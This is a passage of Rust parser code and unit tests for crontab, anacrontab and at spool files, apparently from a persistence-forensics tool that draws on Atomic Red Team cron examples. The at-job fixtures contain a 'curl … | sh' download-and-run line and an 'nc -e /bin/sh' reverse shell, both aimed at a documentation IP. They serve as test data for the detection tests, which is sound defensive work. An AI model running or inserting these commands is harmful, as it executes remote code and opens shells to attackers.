        }
        if ln == 1 && line.starts_with("#!") {
            job.shebang = Some(line.get(2..).unwrap_or("").trim().to_string());
        } else if let Some(rest) = line.strip_prefix("# atrun ") {
            saw_atrun = true;
            for kv in rest.split_whitespace() {
                match kv.split_once('=') {
                    Some(("uid", v)) => job.uid = v.parse().ok(),
                    Some(("gid", v)) => job.gid = v.parse().ok(),
                    _ => {}
                }
            }
            if job.uid.is_none() || job.gid.is_none() {
                push_warn(
                    &mut job,
                    AtWarning::MalformedHeader {
                        line: ln,
                        text: excerpt(line),
                    },
                );
            }
        } else if let Some(rest) = line.strip_prefix("# mail ") {
            let mut parts = rest.split_whitespace();
            job.mail_user = parts.next().map(str::to_string);
            job.mail_always = parts.next().and_then(|f| match f {
                "0" => Some(false),
                "1" => Some(true),
                _ => None,
            });
            if job.mail_user.is_none() || job.mail_always.is_none() {
                push_warn(
                    &mut job,
                    AtWarning::MalformedHeader {
                        line: ln,
                        text: excerpt(line),
                    },
                );
            }
        } else if let Some(m) = line.strip_prefix("umask ") {
            job.umask = Some(m.trim().to_string());
        } else if let Some(rest) = line.strip_prefix("cd ") {
            let path = rest
                .strip_suffix("|| {")
                .map(str::trim_end)
                .unwrap_or(rest.trim_end());
            job.working_directory = Some(shell_unescape(path));
            in_cd_block = rest.trim_end().ends_with('{');
            if !in_cd_block {
                body_start = Some(i + 1);
            }
        } else if line.contains('=') && ends_with_continuation(line) && parse_at_env_start(line) {
            env_buf = Some((ln, line.to_string()));
        } else if let Some(v) = parse_at_env(line) {
            job.environment.push(v);
        } else if line.trim().is_empty() || line.starts_with('#') {
            // Blank or comment lines in the header are inert.
        } else if ln > 1 || !line.starts_with("#!") {
            push_warn(
                &mut job,
                AtWarning::UnexpectedHeaderLine {
                    line: ln,
                    text: excerpt(line),
                },
            );
        }
        job.header_lines.push(line.to_string());
        i += 1;
    }
    if !saw_atrun {
        push_warn(&mut job, AtWarning::MissingAtrunHeader);
    }

    let Some(start) = body_start else {
        push_warn(&mut job, AtWarning::NoCommandSection);
        return job;
    };
    job.command_line_number = Some(start + 1);
    let body = lines.get(start..).unwrap_or(&[]);
    match job.delimiter.clone() {
        Some(d) => {
            let end = body.iter().position(|l| *l == d);
            let cmd_lines = match end {
                Some(e) => body.get(..e).unwrap_or(&[]),
                None => {
                    push_warn(
                        &mut job,
                        AtWarning::UnterminatedHeredoc {
                            delimiter: d.clone(),
                        },
                    );
                    body
                }
            };
            job.command = cmd_lines.join("\n");
            if let Some(e) = end {
                let after = body.get(e + 1..).unwrap_or(&[]);
                let trailing = after.join("\n");
                if !trailing.trim().is_empty() {
                    let first = after.iter().position(|l| !l.trim().is_empty()).unwrap_or(0);
                    push_warn(
                        &mut job,
                        AtWarning::TrailingCommands {
                            line: start + e + 2 + first,
                            text: excerpt(trailing.trim()),
                        },
                    );
                    job.trailing = Some(trailing);
                }
            }
        }
        None => job.command = body.join("\n"),
    }
    job
}

fn push_warn(job: &mut AtJob, w: AtWarning) {
    if job.warnings.len() < MAX_WARNINGS {
        job.warnings.push(w);
    }
}

/// Whether a line looks like the start of a (continued) `NAME=value` line.
fn parse_at_env_start(line: &str) -> bool {
    line.split_once('=').is_some_and(|(n, _)| {
        !n.is_empty()
            && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !n.as_bytes().first().is_some_and(|b| b.is_ascii_digit())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fixture(rel: &str) -> Vec<u8> {
        let p = format!("{}/../shared/fixtures/{}", env!("CARGO_MANIFEST_DIR"), rel);
        std::fs::read(&p).unwrap_or_else(|e| panic!("read {p}: {e}"))
    }

    fn fields(e: &CronEntry) -> (&str, &str, &str, &str, &str) {
        match &e.schedule {
            CronSchedule::Fields {
                minute,
                hour,
                day_of_month,
                month,
                day_of_week,
            } => (minute, hour, day_of_month, month, day_of_week),
            other => panic!("expected fields, got {other:?}"),
        }
    }

    #[test]
    fn debian_etc_crontab() {
        let p = parse_crontab(&fixture("linux/etc/crontab"), CrontabKind::System);
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        // SOURCES.md: 6 non-comment lines = 2 env + 4 jobs.
        assert_eq!(p.environment.len(), 2);
        assert_eq!(p.entries.len(), 4);
        assert_eq!(p.environment[0].name, "SHELL");
        assert_eq!(p.environment[0].value, "/bin/sh");
        assert_eq!(p.environment[0].line_number, 7);
        let monthly = &p.entries[3];
        assert_eq!(fields(monthly), ("52", "6", "1", "*", "*"));
        assert_eq!(monthly.user.as_deref(), Some("root"));
        assert_eq!(
            monthly.command,
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }"
        );
        assert!(monthly.raw.starts_with("52 6\t1 * *\troot\t"));
        assert_eq!(monthly.stdin, None);
        let hourly = &p.entries[0];
        assert_eq!(hourly.line_number, 18);
        assert_eq!(
            hourly.command,
            "cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(fields(&p.entries[2]).4, "7");
        let names: Vec<&str> = hourly.environment.iter().map(|v| v.name.as_str()).collect();
        assert_eq!(names, ["SHELL", "PATH"]);
    }

    #[test]
    fn debian_cron_d_files() {
        let p = parse_crontab(&fixture("linux/etc/cron.d/anacron"), CrontabKind::System);
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        assert_eq!(p.environment.len() + p.entries.len(), 3);
        assert_eq!(p.entries.len(), 1);
        let e = &p.entries[0];
        assert_eq!(fields(e), ("30", "7-23", "*", "*", "*"));
        assert_eq!(e.user.as_deref(), Some("root"));
        assert!(
            e.command.starts_with(
                "[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /"
            )
        );

        let p = parse_crontab(
            &fixture("linux/etc/cron.d/e2scrub_all"),
            CrontabKind::System,
        );
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        assert_eq!(p.entries.len(), 2);
        assert_eq!(
            p.entries[1].command,
            "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r"
        );
        assert!(p.entries[1].environment.is_empty());

        let p = parse_crontab(&fixture("linux/etc/cron.d/sysstat"), CrontabKind::System);
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        assert_eq!(p.environment.len() + p.entries.len(), 3);
        assert_eq!(fields(&p.entries[0]).0, "5-55/10");
        assert_eq!(
            p.entries[1].command,
            "command -v debian-sa1 > /dev/null && debian-sa1 60 2"
        );
        assert_eq!(p.entries[1].environment[0].name, "PATH");
        assert!(
            p.entries[1].environment[0]
                .value
                .starts_with("/usr/lib/sysstat:")
        );
    }

    #[test]
    fn debian_anacrontab() {
        let p = parse_anacrontab(&fixture("linux/etc/anacrontab"));
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        // SOURCES.md: 7 non-comment lines = 4 env + 3 jobs.
        assert_eq!(p.environment.len(), 4);
        assert_eq!(p.jobs.len(), 3);
        assert_eq!(p.jobs[0].period, AnacronPeriod::Days(1));
        assert_eq!(p.jobs[0].delay_minutes, Some(5));
        assert_eq!(p.jobs[0].job_identifier, "cron.daily");
        let m = &p.jobs[2];
        assert_eq!(m.period, AnacronPeriod::Monthly);
        assert_eq!(m.delay_minutes, Some(15));
        assert_eq!(m.job_identifier, "cron.monthly");
        assert_eq!(m.command, "run-parts --report /etc/cron.monthly");
        assert_eq!(m.environment.len(), 4);
        assert_eq!(m.environment[2].name, "HOME");
    }

    #[test]
    fn anacron_env_and_bad_fields() {
        let t = b"START_HOURS_RANGE=3-22\nRANDOM_DELAY = 45\nx 5 id cmd\n1 y id2 cmd2\n1 2\n";
        let p = parse_anacrontab(t);
        assert_eq!(p.environment[0].value, "3-22");
        assert_eq!(p.environment[1].name, "RANDOM_DELAY");
        assert_eq!(p.environment[1].value, " 45");
        assert_eq!(p.jobs.len(), 2);
        assert_eq!(p.jobs[0].period, AnacronPeriod::Other("x".into()));
        assert_eq!(p.jobs[1].delay_minutes, None);
        assert_eq!(p.warnings.len(), 3, "{:?}", p.warnings);
    }

    /// Command lines from Atomic Red Team T1053.003 with their default arguments substituted.
    #[test]
    fn atomic_t1053_003_lines() {
        let yaml = String::from_utf8(fixture("atomics/T1053.003.yaml")).unwrap();
        // Test 1 writes `* * * * * #{command}` with command default /tmp/evil.sh into a user crontab.
        assert!(yaml.contains("echo \"* * * * * #{command}\" > #{tmp_cron}"));
        assert!(yaml.contains("default: /tmp/evil.sh"));
        let p = parse_crontab(b"* * * * * /tmp/evil.sh\n", CrontabKind::User);
        assert_eq!(p.entries.len(), 1);
        assert_eq!(p.entries[0].command, "/tmp/evil.sh");
        assert_eq!(p.entries[0].user, None);
        assert_eq!(fields(&p.entries[0]), ("*", "*", "*", "*", "*"));

        // Test 3's default command is itself a cron.d line.
        let line =
            "*/5     *       *       *       *       root    echo \"Hello from Atomic Red Team\"";
        assert!(yaml.contains(line));
        let p = parse_crontab(line.as_bytes(), CrontabKind::System);
        assert!(p.warnings.is_empty());
        assert_eq!(fields(&p.entries[0]).0, "*/5");
        assert_eq!(p.entries[0].user.as_deref(), Some("root"));
        assert_eq!(p.entries[0].command, "echo \"Hello from Atomic Red Team\"");

        // Test 4 appends the bare command (no schedule) to /var/spool/cron/crontabs/persistevil:
        // cron rejects it; we must warn, not panic, and keep the text.
        let bad = "echo 'Hello from Atomic Red Team' > /tmp/atomic.log";
        assert!(yaml.contains(&format!("default: {bad}")));
        let p = parse_crontab(bad.as_bytes(), CrontabKind::User);
        // Right field count, so it is an entry, with a warning for every nonsense time field.
        assert_eq!(p.entries.len(), 1);
        assert_eq!(p.entries[0].command, "Team' > /tmp/atomic.log");
        assert_eq!(p.warnings.len(), 5);
        assert!(
            matches!(&p.warnings[0], CronWarning::InvalidField { field, .. } if field == "minute")
        );
    }

    #[test]
    fn percent_and_env_quoting() {
        let t = b"MAILTO = \"ops@example.com\"\nX=' padded '\n@reboot root /bin/echo 50\\% done%line1%line2\n0 0 * JAN,jul mon-fri root date +\\%F\n";
        let p = parse_crontab(t, CrontabKind::System);
        assert!(p.warnings.is_empty(), "{:?}", p.warnings);
        assert_eq!(p.environment[0].name, "MAILTO");
        assert_eq!(p.environment[0].value, "ops@example.com");
        assert_eq!(p.environment[1].value, " padded ");
        let e = &p.entries[0];
        assert_eq!(e.schedule, CronSchedule::Special(CronSpecial::Reboot));
        assert_eq!(e.command, "/bin/echo 50% done");
        assert_eq!(e.stdin.as_deref(), Some("line1\nline2"));
        assert_eq!(p.entries[1].command, "date +%F");
        assert_eq!(p.entries[1].environment.len(), 2);
        let json = serde_json::to_string(&p).unwrap();
        assert!(json.contains("\"special\":\"reboot\""));
    }

    #[test]
    fn user_crontab_specials_and_invalid_fields() {
        let t = b"# DO NOT EDIT THIS FILE\r\n@annually /a\r\n@midnight /b\r\n@every5 /c\r\n61 * * * * /d\r\n* * * foo * /e\r\n*/0 * * * * /f\r\n";
        let p = parse_crontab(t, CrontabKind::User);
        assert_eq!(p.entries.len(), 6);
        assert_eq!(
            p.entries[0].schedule,
            CronSchedule::Special(CronSpecial::Yearly)
        );
        assert_eq!(p.entries[0].command, "/a");
        assert!(!p.entries[0].raw.ends_with('\r'));
        assert_eq!(
            p.entries[1].schedule,
            CronSchedule::Special(CronSpecial::Daily)
        );
        assert_eq!(p.warnings.len(), 4, "{:?}", p.warnings);
        assert!(matches!(
            p.warnings[0],
            CronWarning::UnknownSpecial { line: 4, .. }
        ));
        assert!(matches!(
            p.warnings[1],
            CronWarning::InvalidField { line: 5, .. }
        ));
    }

    #[test]
    fn hostile_crontab_inputs() {
        // Binary garbage, NUL bytes and invalid UTF-8.
        let mut garbage: Vec<u8> = (0..4096u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect();
        garbage.extend_from_slice(b"\n* * * * * root /tmp/\xff\xfe\x00x\n");
        let p = parse_crontab(&garbage, CrontabKind::System);
        assert!(p.lossy_utf8);
        let last = p.entries.last().unwrap();
        assert!(last.lossy_utf8);
        assert!(last.command.starts_with("/tmp/\u{fffd}"));
        assert!(
            p.warnings
                .iter()
                .any(|w| matches!(w, CronWarning::NulByte { .. }))
        );

        // 5 MB single line.
        let mut big = b"* * * * * root ".to_vec();
        big.extend(std::iter::repeat_n(b'A', 5 * 1024 * 1024));
        let p = parse_crontab(&big, CrontabKind::System);
        assert_eq!(p.entries[0].command.len(), 5 * 1024 * 1024);

        // Unterminated quote in env, too few fields.
        let p = parse_crontab(b"FOO=\"abc\n* * *\n* * * * * root\n", CrontabKind::System);
        assert!(p.entries.is_empty());
        assert_eq!(p.warnings.len(), 3, "{:?}", p.warnings);

        // Huge env × many entries stays bounded.
        let mut t = format!("BIG={}\n", "x".repeat(1 << 20)).into_bytes();
        for _ in 0..64 {
            t.extend_from_slice(b"* * * * * /x\n");
        }
        let p = parse_crontab(&t, CrontabKind::User);
        assert_eq!(p.entries.len(), 64);
        assert!(p.entries.last().unwrap().environment_truncated);

        // Many bad lines: warnings are capped.
        let t = "x\n".repeat(5000);
        let p = parse_crontab(t.as_bytes(), CrontabKind::User);
        assert_eq!(p.warnings.len(), MAX_WARNINGS);
        assert_eq!(p.warnings_suppressed, 4000);

        let p = parse_anacrontab(&garbage);
        assert!(p.lossy_utf8);
    }

    /// A job file in the layout at 3.2 (Debian) writes; values and the cd path carry at's escaping.
    const AT_JOB: &str = "#!/bin/sh\n\
# atrun uid=1000 gid=1000\n\
# mail alice 0\n\
umask 22\n\
SHELL=/bin/bash; export SHELL\n\
SSH_CLIENT=192.168.56.1\\ 51234\\ 22; export SSH_CLIENT\n\
PWD=/home/alice/my\\ dir; export PWD\n\
LANG=en_US.UTF-8; export LANG\n\
PATH=/usr/local/bin:/usr/bin:/bin; export PATH\n\
cd /home/alice/my\\ dir || {\n\
\t echo 'Execution directory inaccessible' >&2\n\
\t exit 1\n\
}\n\
${SHELL:-/bin/sh} << 'marcinDELIMITER5b0e6c3a'\n\
curl -s http://203.0.113.7/x.sh | sh\n\
rm -f /tmp/.x\n\
\n\
marcinDELIMITER5b0e6c3a\n";

    #[test]
    fn at_job_debian_layout() {
        let j = parse_at_job(AT_JOB.as_bytes());
        assert!(j.warnings.is_empty(), "{:?}", j.warnings);
        assert_eq!(j.shebang.as_deref(), Some("/bin/sh"));
        assert_eq!((j.uid, j.gid), (Some(1000), Some(1000)));
        assert_eq!(j.mail_user.as_deref(), Some("alice"));
        assert_eq!(j.mail_always, Some(false));
        assert_eq!(j.umask.as_deref(), Some("22"));
        assert_eq!(j.working_directory.as_deref(), Some("/home/alice/my dir"));
        assert_eq!(j.environment.len(), 5);
        assert_eq!(j.environment[1].value, "192.168.56.1 51234 22");
        assert_eq!(j.delimiter.as_deref(), Some("marcinDELIMITER5b0e6c3a"));
        assert_eq!(
            j.command,
            "curl -s http://203.0.113.7/x.sh | sh\nrm -f /tmp/.x\n"
        );
        assert_eq!(j.command_line_number, Some(15));
        assert_eq!(j.header_lines.len(), 14);
        assert_eq!(j.trailing, None);
    }

    #[test]
    fn at_job_tampered_and_hostile() {
        // Commands appended after the delimiter still run: flag them.
        let t = format!("{AT_JOB}nc -e /bin/sh 203.0.113.7 4444\n");
        let j = parse_at_job(t.as_bytes());
        assert_eq!(
            j.trailing.as_deref(),
            Some("nc -e /bin/sh 203.0.113.7 4444")
        );
        assert!(matches!(
            j.warnings[0],
            AtWarning::TrailingCommands { line: 19, .. }
        ));

        // Truncated before the delimiter closes.
        let cut = AT_JOB.get(..AT_JOB.len() - 30).unwrap();
        let j = parse_at_job(cut.as_bytes());
        assert!(
            j.warnings
                .iter()
                .any(|w| matches!(w, AtWarning::UnterminatedHeredoc { .. }))
        );
        assert!(j.command.starts_with("curl -s"));

        // Older layout without a here-document, CRLF endings.
        let old = "#!/bin/sh\r\n# atrun uid=0 gid=0\r\n# mail root 1\r\numask 22\r\ncd /root || {\r\n\t echo 'Execution directory inaccessible' >&2\r\n\t exit 1\r\n}\r\n/usr/bin/id > /tmp/o\r\n";
        let j = parse_at_job(old.as_bytes());
        assert!(j.warnings.is_empty(), "{:?}", j.warnings);
        assert_eq!(j.mail_always, Some(true));
        assert_eq!(j.command, "/usr/bin/id > /tmp/o");
        assert_eq!(j.working_directory.as_deref(), Some("/root"));

        // Garbage: no header, no commands section.
        let j = parse_at_job(b"\xff\xfe\x00garbage\nmore");
        assert!(j.lossy_utf8);
        assert!(
            j.warnings
                .iter()
                .any(|w| matches!(w, AtWarning::NoCommandSection))
        );
        assert!(
            j.warnings
                .iter()
                .any(|w| matches!(w, AtWarning::MissingAtrunHeader))
        );
        let j = parse_at_job(b"");
        assert!(j.command.is_empty());
    }

    #[test]
    fn at_filenames() {
        let (q, n, t) = parse_at_filename("a0000201a3b4c5").unwrap();
        assert_eq!((q, n), ('a', 2));
        assert_eq!(t.timestamp(), 0x01a3_b4c5 * 60);
        // From a RHEL spool listing: job 3 run at Sat Oct 26 16:30 2019 CST (+08:00).
        let (q, n, t) = parse_at_filename("/var/spool/at/a00003018fccde").unwrap();
        assert_eq!((q, n), ('a', 3));
        assert_eq!(t.to_rfc3339(), "2019-10-26T08:30:00+00:00");
        assert_eq!(parse_at_filename("=00003018fccde").map(|x| x.0), Some('='));
        assert!(parse_at_filename(".SEQ").is_none());
        assert!(parse_at_filename("a0000g01a3b4c5").is_none());
        assert!(parse_at_filename("é000201a3b4c5").is_none());
        assert!(parse_at_filename("affffffffffffff").is_none());
        assert!(parse_at_filename("afffffffffffff").is_some());
    }
}
